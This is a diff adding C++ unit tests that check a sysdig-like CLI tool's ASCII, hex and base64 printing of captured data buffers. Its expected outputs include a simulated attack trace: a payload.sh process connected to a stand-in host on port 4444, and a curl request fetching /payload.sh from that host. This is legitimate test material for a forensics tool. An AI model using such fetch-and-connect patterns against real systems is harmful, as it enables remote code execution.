@@ -514,6 +514,67 @@ TEST(CliPrint, TakesSysdigHabits) {
   EXPECT_EQ(saker("print").status, 2);
 }
 
+// -A, -x, -X and -b write data buffers as sysdig does, whole; they exclude each other.
+TEST(CliPrint, DataBufferFormats) {
+  auto cap = (test::samples_dir() / "shell-session.scap").string();
+  auto print = [&](const std::string& opt, const std::string& filter) {
+    return saker("print " + opt + " " + cap + " 'proc.name = payload.sh and evt.num = " + filter + "'").out;
+  };
+  const std::string fd = " fd=3(<4t>10.0.0.5:40022->203.0.113.7:4444) size=3\n";
+  const std::string head = "49 08:00:00.000231974 0 payload.sh (4204) < read res=3 data=";
+  EXPECT_EQ(print("", "49"), head + "id." + fd);
+  EXPECT_EQ(print("-A", "49"), head + "\nid\n" + fd);
+  EXPECT_EQ(print("--print-ascii", "49"), head + "\nid\n" + fd);
+  EXPECT_EQ(print("-x", "49"), head + "\n\t0x0000: 6964 0a\n" + fd);
+  EXPECT_EQ(print("-X", "49"), head + "\n\t0x0000: 6964 0a" + std::string(32, ' ') + "id.\n" + fd);
+  EXPECT_EQ(print("-b", "49"), head + "aWQK" + fd);
+  // CR LF is one line end in -A; -X rows of 16 bytes; %evt.buffer and %evt.arg follow too.
+  auto curl = [&](const std::string& opt, const std::string& fmt) {
+    return saker("print " + opt + " " + cap + " 'evt.num = 28' -p '" + fmt + "'").out;
+  };
+  EXPECT_EQ(curl("-A", "%evt.num %evt.buffer"),
+            "28 \nGET /payload.sh HTTP/1.1\nHost: 203.0.113.7\nUser-Agent: curl/7.88.1\n\n\n");
+  EXPECT_EQ(curl("-X", "%evt.arg.data|"),
+            "\n\t0x0000: 4745 5420 2f70 6179 6c6f 6164 2e73 6820  GET /payload.sh "
+            "\n\t0x0010: 4854 5450 2f31 2e31 0d0a 486f 7374 3a20  HTTP/1.1..Host: "
+            "\n\t0x0020: 3230 332e 302e 3131 332e 370d 0a55 7365  203.0.113.7..Use"
+            "\n\t0x0030: 722d 4167 656e 743a 2063 7572 6c2f 372e  r-Agent: curl/7."
+            "\n\t0x0040: 3838 2e31 0d0a 0d0a                      88.1....\n|\n");
+  EXPECT_EQ(
+      curl("-b", "%evt.arg[1]"),
+      "R0VUIC9wYXlsb2FkLnNoIEhUVFAvMS4xDQpIb3N0OiAyMDMuMC4xMTMuNw0KVXNlci1BZ2VudDogY3VybC83Ljg4LjENCg0K\n");
+  // Filters still compare the default text.
+  EXPECT_EQ(saker("print -b " + cap + " 'evt.arg.data startswith GET' -p %evt.num").out, "28\n");
+  // One format at a time.
+  for (const char* pair : {"-A -X", "-x -b", "--print-hex-ascii --print-base64"}) {
+    auto r = saker(std::string("print ") + pair + " " + cap);
+    EXPECT_EQ(r.status, 2) << pair;
+    EXPECT_NE(r.out.find("exclude each other"), std::string::npos) << r.out;
+  }
+}
+
+// The data buffers of -A, -x, -X and -b are sysdig's, byte for byte.
+TEST(CliPrint, DataBufferFormatsMatchSysdig) {
+  if (test::run_command("command -v sysdig >/dev/null").status != 0)
+    GTEST_SKIP() << "sysdig is not installed";
+  auto cap = (test::samples_dir() / "shell-session.scap").string();
+  const std::string filter = " 'evt.type in (read, write) and evt.dir = <'";
+  // sysdig 0.29 (old libs) has no fd and size in these exit events (docs/compatibility.md):
+  // compare evt.num aside, up to them.
+  const std::regex num("^[0-9]+ "), tail(" fd=[0-9]+\\([^)]*\\) size=[0-9]+$");
+  for (const char* opt : {"", "-A", "-x", "-X", "-b"}) {
+    auto ours = saker(std::string("print ") + opt + " " + cap + filter);
+    auto theirs = test::run_command(std::string("sysdig ") + opt + " -r " + cap + filter + " 2>/dev/null");
+    ASSERT_EQ(ours.status, 0) << opt;
+    std::string a, b;
+    for (const auto& l : lines_of(ours.out, 0))
+      a += std::regex_replace(std::regex_replace(l, num, ""), tail, " ") + "\n";
+    for (const auto& l : lines_of(theirs.out, 0)) b += std::regex_replace(l, num, "") + "\n";
+    EXPECT_NE(b.find("data="), std::string::npos) << opt;
+    EXPECT_EQ(a, b) << opt;
+  }
+}
+
 // sysdig -j and saker print -j agree on the fields both render alike.
 TEST(CliPrint, JsonLinesMatchSysdig) {
   if (test::run_command("command -v sysdig >/dev/null").status != 0)
